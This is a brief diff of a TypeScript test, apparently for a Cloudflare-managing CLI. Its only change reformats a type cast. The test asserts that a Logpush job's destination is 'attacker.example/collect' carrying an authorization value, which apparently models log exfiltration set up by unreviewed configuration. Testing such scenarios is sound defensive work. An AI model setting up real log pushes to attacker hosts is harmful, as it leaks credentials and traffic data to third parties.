@@ -90,7 +90,10 @@ describe("a value of the environment before the review", () => {
       `POST /client/v4/zones/${ZONE.com}/logpush/validate/destination`,
       `POST /client/v4/zones/${ZONE.com}/page_shield/policies`,
     ]);
-    const job = log.find((r) => r.method === "POST" && r.path.endsWith("/logpush/jobs"))!.body as Record<string, string>;
+    const job = log.find((r) => r.method === "POST" && r.path.endsWith("/logpush/jobs"))!.body as Record<
+      string,
+      string
+    >;
     expect(job.destination_conf).toBe(`https://attacker.example/collect?header_Authorization=${VALUES.LOG_AUTH}`);
     expect(JSON.parse(job.filter!).where.value).toBe(VALUES.FILTER_HOST);
     const again = await runCli(emu, ["plan", "-c", config, "--detailed-exitcode"], { env });
